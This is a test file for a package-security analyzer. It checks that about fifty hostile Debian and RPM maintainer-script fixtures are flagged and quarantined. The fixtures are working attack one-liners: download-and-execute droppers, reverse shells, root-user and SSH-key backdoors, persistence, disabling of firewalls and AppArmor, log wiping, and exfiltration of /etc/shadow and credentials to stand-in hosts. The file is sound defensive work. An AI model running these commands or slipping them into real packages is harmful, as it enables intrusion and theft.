import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { Action } from '../../../src/security/policy.js';
import { analyzeDeb, describe as list, verdictOf } from './helpers.js';

// Inert fixture text: every script below is parsed by the analyzer, never executed.

interface Case {
  name: string;
  script: string;
  /** Which maintainer script holds it. */
  member?: string;
  rule: string;
  /** Line the finding must point at. */
  line?: number;
  /** What the calibrated default policy must do with the package. */
  action: Action;
  /** Extra payload files (units the package ships …). */
  files?: Record<string, string>;
}

const head = '#!/bin/sh\nset -e\n';

const cases: Case[] = [
  // download and execute
  { name: 'curl piped to sh', script: `${head}curl -fsSL https://get.example.invalid/install.sh | sh\n`, rule: 'os-packages/download-execute', line: 3, action: 'quarantine' },
  { name: 'wget -O- piped to bash', script: `${head}wget -q -O- http://dl.example.invalid/x | bash -s -- --quiet\n`, rule: 'os-packages/download-execute', line: 3, action: 'quarantine' },
  { name: 'curl -o, chmod +x, run', script: `${head}cd /tmp\ncurl -s -o upd https://dl.example.invalid/upd && chmod +x upd && ./upd\n`, rule: 'os-packages/download-execute', line: 4, action: 'quarantine' },
  { name: 'bash <(curl …)', script: `${head}bash <(curl -s https://dl.example.invalid/setup)\n`, rule: 'os-packages/download-execute', line: 3, action: 'quarantine' },
  { name: 'su -c with a download piped to sh', script: `${head}su root -c 'curl -s http://dl.example.invalid/a | sh'\n`, rule: 'os-packages/download-execute', line: 3, action: 'quarantine' },
  // decoded execution
  { name: 'echo | base64 -d | sh', script: `${head}echo Y3VybCBldmlsCg== | base64 -d | sh\n`, rule: 'os-packages/decode-execute', line: 3, action: 'quarantine' },
  { name: 'eval "$(… base64 -d)"', script: `${head}eval "$(printf %s "$P" | base64 --decode)"\n`, rule: 'os-packages/decode-execute', line: 3, action: 'quarantine' },
  { name: 'xxd -r -p | bash', script: `${head}echo 6964 | xxd -r -p | bash\n`, rule: 'os-packages/decode-execute', line: 3, action: 'quarantine' },
  // reverse shells
  { name: 'bash -i >& /dev/tcp', script: `${head}bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n`, rule: 'os-packages/reverse-shell', line: 3, action: 'quarantine' },
  { name: 'nc -e /bin/sh', script: `${head}nc -e /bin/sh 203.0.113.9 4444 &\n`, rule: 'os-packages/reverse-shell', line: 3, action: 'quarantine' },
  { name: 'socat exec:', script: `${head}socat TCP:203.0.113.9:4444 EXEC:/bin/bash,pty,stderr &\n`, rule: 'os-packages/reverse-shell', line: 3, action: 'quarantine' },
  { name: 'mkfifo with nc', script: `${head}rm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f &\n`, rule: 'os-packages/reverse-shell', line: 4, action: 'quarantine' },
  { name: 'python socket + dup2', script: `${head}python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")' &\n`, rule: 'os-packages/reverse-shell', line: 3, action: 'quarantine' },
  // users and keys
  { name: 'useradd with uid 0', script: `${head}useradd -o -u 0 -g 0 -M -s /bin/bash sysupd\n`, rule: 'os-packages/privileged-user', line: 3, action: 'quarantine' },
  { name: 'usermod -aG sudo', script: `${head}usermod -aG sudo svc\n`, rule: 'os-packages/privileged-user', line: 3, action: 'quarantine' },
  { name: 'adduser USER sudo', script: `${head}adduser --quiet svc sudo\n`, rule: 'os-packages/privileged-user', line: 3, action: 'quarantine' },
  { name: 'echo into /etc/passwd', script: `${head}echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd\n`, rule: 'os-packages/privileged-user', line: 3, action: 'quarantine' },
  { name: 'chpasswd', script: `${head}echo 'root:hunter2' | chpasswd\n`, rule: 'os-packages/privileged-user', line: 3, action: 'quarantine' },
  { name: 'authorized_keys append', script: `${head}mkdir -p /root/.ssh\necho 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys\n`, rule: 'os-packages/authorized-keys', line: 4, action: 'quarantine' },
  { name: 'authorized_keys through tee', script: `${head}echo "$KEY" | tee -a ~root/.ssh/authorized_keys >/dev/null\n`, rule: 'os-packages/authorized-keys', line: 3, action: 'quarantine' },
  { name: 'sudoers edit', script: `${head}echo 'svc ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n`, rule: 'os-packages/sudoers', line: 3, action: 'quarantine' },
  { name: 'sudoers.d drop', script: `${head}printf 'svc ALL=(ALL) NOPASSWD:ALL\\n' > /etc/sudoers.d/99-svc\n`, rule: 'os-packages/sudoers', line: 3, action: 'quarantine' },
  // persistence
  { name: 'crontab -', script: `${head}(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://c2.example.invalid/p | sh') | crontab -\n`, rule: 'os-packages/persistence', line: 3, action: 'quarantine' },
  { name: 'cron.d written by script', script: `${head}echo '* * * * * root /usr/lib/x/beacon' > /etc/cron.d/sysupd\n`, rule: 'os-packages/persistence', line: 3, action: 'quarantine' },
  { name: 'rc.local', script: `${head}echo '/usr/lib/x/beacon &' >> /etc/rc.local\n`, rule: 'os-packages/persistence', line: 3, action: 'quarantine' },
  { name: 'ld.so.preload', script: `${head}echo /usr/lib/x/libhide.so > /etc/ld.so.preload\n`, rule: 'os-packages/preload-hijack', line: 3, action: 'quarantine' },
  { name: 'written unit enabled', script: `${head}cat > /etc/systemd/system/sysupd.service <<EOF\n[Service]\nExecStart=/usr/lib/x/beacon\nEOF\nsystemctl enable sysupd.service\n`, rule: 'os-packages/persistence', line: 7, action: 'quarantine' },
  { name: 'enabling a unit the package does not ship', script: `${head}systemctl enable --now remote-shell.service\n`, rule: 'os-packages/persistence', line: 3, action: 'warn' },
  { name: 'profile.d written by script', script: `${head}echo 'export PATH=/opt/x:$PATH' > /etc/profile.d/x.sh\n`, rule: 'os-packages/persistence', line: 3, action: 'warn' },
  // disabling defences
  { name: 'setenforce 0', script: `${head}setenforce 0 || true\n`, rule: 'os-packages/disable-security', line: 3, action: 'quarantine' },
  { name: 'iptables -F', script: `${head}iptables -F\n`, rule: 'os-packages/disable-security', line: 3, action: 'quarantine' },
  { name: 'nft flush ruleset', script: `${head}nft flush ruleset\n`, rule: 'os-packages/disable-security', line: 3, action: 'quarantine' },
  { name: 'ufw disable', script: `${head}ufw disable >/dev/null 2>&1 || true\n`, rule: 'os-packages/disable-security', line: 3, action: 'quarantine' },
  { name: 'systemctl stop apparmor', script: `${head}systemctl stop apparmor\nsystemctl disable auditd.service\n`, rule: 'os-packages/disable-security', line: 3, action: 'quarantine' },
  // wiping traces
  { name: 'history -c', script: `${head}history -c\n`, rule: 'os-packages/anti-forensics', line: 3, action: 'quarantine' },
  { name: 'unset HISTFILE', script: `${head}unset HISTFILE\n`, rule: 'os-packages/anti-forensics', line: 3, action: 'quarantine' },
  { name: 'truncating auth.log', script: `${head}cat /dev/null > /var/log/auth.log\n`, rule: 'os-packages/anti-forensics', line: 3, action: 'quarantine' },
  { name: 'rm -rf /var/log/*', script: `${head}rm -rf /var/log/*\n`, rule: 'os-packages/anti-forensics', line: 3, action: 'quarantine' },
  { name: 'truncate -s0 wtmp', script: `${head}truncate -s 0 /var/log/wtmp\n`, rule: 'os-packages/anti-forensics', line: 3, action: 'quarantine' },
  // others
  { name: 'setuid shell', script: `${head}cp /bin/bash /var/tmp/.x && chmod u+s /var/tmp/.x\n`, rule: 'os-packages/setuid', line: 3, action: 'quarantine' },
  { name: 'exfiltrating /etc/shadow', script: `${head}curl -s -d @/etc/shadow https://c2.example.invalid/u\n`, rule: 'os-packages/exfiltration', line: 3, action: 'quarantine' },
  { name: 'credentials read on one line, network on another, warns', script: `${head}K=$(cat /root/.aws/credentials)\nwget -q --post-data="$K" https://c2.example.invalid/\n`, rule: 'os-packages/exfiltration', line: 3, action: 'warn' },
  { name: 'deb-systemd-invoke stopping AppArmor', script: `${head}deb-systemd-invoke stop apparmor.service\n`, rule: 'os-packages/disable-security', line: 3, action: 'quarantine' },
  { name: 'iptables policy to ACCEPT', script: `${head}iptables -P INPUT ACCEPT\n`, rule: 'os-packages/disable-security', line: 3, action: 'quarantine' },
  { name: 'a hand-made .wants link for a unit the package lacks', script: `${head}ln -sf /etc/systemd/system/x.service /etc/systemd/system/multi-user.target.wants/x.service\n`, rule: 'os-packages/persistence', line: 3, action: 'warn' },
  { name: 'plain download warns', script: `${head}wget -q -O /usr/share/x/data.bin https://dl.example.invalid/data.bin\n`, rule: 'os-packages/network', line: 3, action: 'warn' },
  { name: 'apt-key add warns', script: `${head}apt-key add /usr/share/x/key.asc\n`, rule: 'os-packages/apt-source', line: 3, action: 'warn' },
  { name: 'a dropper in the config script', member: 'config', script: `${head}. /usr/share/debconf/confmodule\ncurl -s http://dl.example.invalid/a | sh\n`, rule: 'os-packages/download-execute', line: 4, action: 'quarantine' },
  { name: 'a perl postinst with /dev/tcp', script: '#!/usr/bin/perl\nuse Socket;\nopen(S, ">/dev/tcp/203.0.113.9/80");\n', rule: 'os-packages/reverse-shell', line: 3, action: 'warn' },
];

describe('os-packages maintainer script rules', () => {
  for (const c of cases) {
    it(c.name, async () => {
      const member = `DEBIAN/${c.member ?? 'postinst'}`;
      const findings = await analyzeDeb({ 'DEBIAN/control': 'Package: demo\n', [member]: c.script, ...c.files });
      const found = findings.filter((f) => f.rule === c.rule);
      assert.ok(found.length > 0, `expected ${c.rule}, got:\n${list(findings)}`);
      if (c.line !== undefined) assert.ok(found.some((f) => f.location?.file === member && f.location.line === c.line), `expected ${c.rule} at ${member}:${c.line}, got:\n${list(findings)}`);
      for (const f of findings) assert.ok((f.evidence ?? '').length <= 200, 'evidence is at most 200 characters');
      assert.equal(verdictOf(found).action, c.action, list(found));
    });
  }

  it('stays quiet on /etc/passwd look-ups in a script that also downloads', async () => {
    const findings = await analyzeDeb({ 'DEBIAN/postinst': `${head}grep -q '^demo:' /etc/passwd || adduser --system demo\nwget -q -O /usr/share/demo/list https://dl.example.invalid/list\n` });
    assert.deepEqual(findings.map((f) => f.rule), ['os-packages/network'], list(findings));
  });

  it('an enabled alias of a shipped unit is the package\'s own', async () => {
    const findings = await analyzeDeb({ 'DEBIAN/postinst': `${head}systemctl enable demod\n`, 'lib/systemd/system/demo.service': '[Install]\nAlias=demod.service\n' });
    assert.deepEqual(findings, []);
  });

  it('bounds hostile scripts: a giant command is quarantined for review, quickly', async () => {
    const started = Date.now();
    const findings = await analyzeDeb({ 'DEBIAN/postinst': `${head}${'sh -c '.repeat(5000)}x\n` });
    assert.deepEqual(findings.map((f) => [f.rule, f.location?.line]), [['os-packages/uninspectable-script', 3]]);
    assert.equal(verdictOf(findings).action, 'quarantine');
    const huge = await analyzeDeb({ 'DEBIAN/postinst': `${head}${'true\n'.repeat(300_000)}` });
    assert.deepEqual(huge.map((f) => f.rule), ['os-packages/uninspectable-script']);
    assert.ok(Date.now() - started < 5000, `took ${Date.now() - started} ms`);
  });

  it('a compiled postinst cannot be inspected and goes to a reviewer', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);
    const findings = await analyzeDeb({ 'DEBIAN/control': 'Package: demo\n', 'DEBIAN/postinst': elf });
    assert.deepEqual(findings.map((f) => f.rule), ['os-packages/uninspectable-script']);
    assert.equal(verdictOf(findings).action, 'quarantine');
  });

  it('reads scriptlets a format hands over in the manifest (the RPM path)', async () => {
    const { viewOf, contextFor } = await import('../analyzer-harness.js');
    const { osPackagesAnalyzer } = await import('../../../src/security/analyzers/os-packages/index.js');
    const view = viewOf({ 'usr/bin/tool': 'binary' });
    const ctx = contextFor(view, {
      artifact: { format: 'rpm', ecosystem: 'Red Hat', name: 'tool', version: '1.0-1', manifest: { scriptlets: [{ name: '%post', body: 'curl -s http://dl.example.invalid/p | sh\n' }, { name: 42 }] } },
    });
    assert.ok(osPackagesAnalyzer.appliesTo(ctx.artifact));
    const findings = await osPackagesAnalyzer.analyze(view, ctx);
    assert.deepEqual(findings.map((f) => [f.rule, f.location?.file, f.location?.line]), [['os-packages/download-execute', 'SCRIPTLETS/%post', 1]]);
  });

  it('does not apply to language ecosystems', async () => {
    const { osPackagesAnalyzer } = await import('../../../src/security/analyzers/os-packages/index.js');
    const { viewOf, contextFor } = await import('../analyzer-harness.js');
    assert.equal(osPackagesAnalyzer.appliesTo(contextFor(viewOf({})).artifact), false);
  });
});
